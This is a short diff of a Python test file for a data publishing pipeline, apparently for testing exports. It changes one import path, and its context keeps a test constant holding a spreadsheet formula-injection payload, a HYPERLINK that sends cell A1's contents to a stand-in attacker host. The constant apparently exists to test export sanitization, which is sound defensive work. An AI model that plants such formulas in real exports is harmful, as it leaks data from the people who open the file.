@@ -20,7 +20,7 @@ from interlink_pipeline.core.numbers import significant
 from interlink_pipeline.core.publish import exports, report
 from interlink_pipeline.core.publish.publication import publish, read_manifest, staged_folder
 from interlink_pipeline.core.warehouse.vocabularies import PLAN_REASONS
-from interlink_pipeline.defs.tables import readable
+from interlink_pipeline.defs.writes import readable
 from interlink_pipeline_tests.helpers import LIGHT, chromium_path, register_lightchiropractic, run_site
 
 INJECTED = '=HYPERLINK("http://attacker.example/?leak="&A1,"Back Pain")'
